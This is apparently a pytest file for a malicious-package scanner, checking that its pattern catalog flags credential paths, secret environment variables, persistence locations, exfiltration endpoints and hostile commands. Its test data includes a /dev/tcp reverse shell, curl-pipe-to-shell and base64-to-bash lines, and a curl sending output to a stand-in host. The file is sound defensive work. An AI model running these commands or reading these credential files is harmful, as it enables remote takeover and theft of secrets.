"""The capability catalog: every literal pattern still fires through the fast screens."""

from __future__ import annotations

import pytest

from pkgvet.analysis.facts import catalog

EXAMPLES = {
    "credentials": ["/home/u/.ssh/id_rsa", "C:\\Users\\u\\.aws\\credentials", "Login Data",
                    "Local Storage\\leveldb", "wallet.dat", "/etc/passwd", "~/.pypirc",
                    ".env", "/app/.env.local", "/proc/self/environ", "/proc/{}/mem",
                    "~/.config/solana/id.json", "~/.ethereum/keystore/UTC--2024", "~/.claude.json",
                    "~/.config/gh/hosts.yml", "~/.codex/auth.json", "~/.vault-token",
                    "~/.pgpass", "~/.cargo/credentials.toml"],
    "secret_env": ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "TWINE_PASSWORD", "HF_TOKEN",
                   "ANTHROPIC_API_KEY", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "WALLET_PRIVATE_KEY",
                   "WALLET_MNEMONIC"],
    "persistence": ["/etc/cron.d/job", "~/.bashrc", "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                    "~/.config/autostart/x.desktop", "sitecustomize.py", "schtasks /create /tn x"],
    "download_cmd": ["powershell -WindowStyle Hidden -EncodedCommand AAAA",
                     "curl -s https://x.invalid/a.sh | sh", "certutil -urlcache -f http://x/a a",
                     "bash -i >& /dev/tcp/127.0.0.1/9 0>&1", "echo aGk= | base64 -d | bash",
                     "curl -d $(whoami) https://x.invalid", "start pythonw x.py"],
    "shell_cmd": ["whoami", "uname -a", "ipconfig /all"],
    "bad_endpoint": ["https://discord.com/api/webhooks/123456789/abcdefghijklmnopqrstuvwxyz",
                     "https://abcd.ngrok.io/x", "https://eo1234.m.pipedream.net",
                     "https://pastebin.com/raw/abcd", "x.oastify.com"],
    "raw_ip_url": ["http://8.8.4.4/payload"],
    "shell_bin": ["/bin/sh", "cmd.exe", "bash"],
    "pip_cmd": ["pip install x", "pip3"],
    "stealer_pkg": ["browser_cookie3", "discord-webhook", "pyautogui"],
    "payload_url": ["https://x.invalid/a.exe", "https://dl.dropbox.com/s/abc/file"],
    "cloud_metadata": ["http://169.254.169.254/latest/meta-data/"],
    "publish_url": ["https://upload.pypi.org/legacy/", "https://test.pypi.org/legacy/"],
    "ci_workflow": [".github/workflows/ci.yml", "repo\\.github\\workflows", ".gitlab-ci.yml"],
    "exe_name": ["update.exe", "C:\\Users\\u\\AppData\\Local\\Temp\\svc.scr", "/tmp/run.ps1"],
}


@pytest.mark.parametrize(("cap", "text"), [(c, t) for c, ts in EXAMPLES.items() for t in ts])
def test_examples_reach_their_pattern(cap: str, text: str) -> None:
    assert cap in catalog().literal_caps(text)


def test_every_literal_cap_has_examples() -> None:
    assert set(catalog().literals) - {"encoded_cmd_hint"} == set(EXAMPLES)


@pytest.mark.parametrize("text", ["utf-8", "Invalid value: {}", "float64", "hello world",
                                  "csrf_token", "access_token", "Client_Secret", "venv/.envrc"])
def test_ordinary_literals_have_no_caps(text: str) -> None:
    assert catalog().literal_caps(text) == []
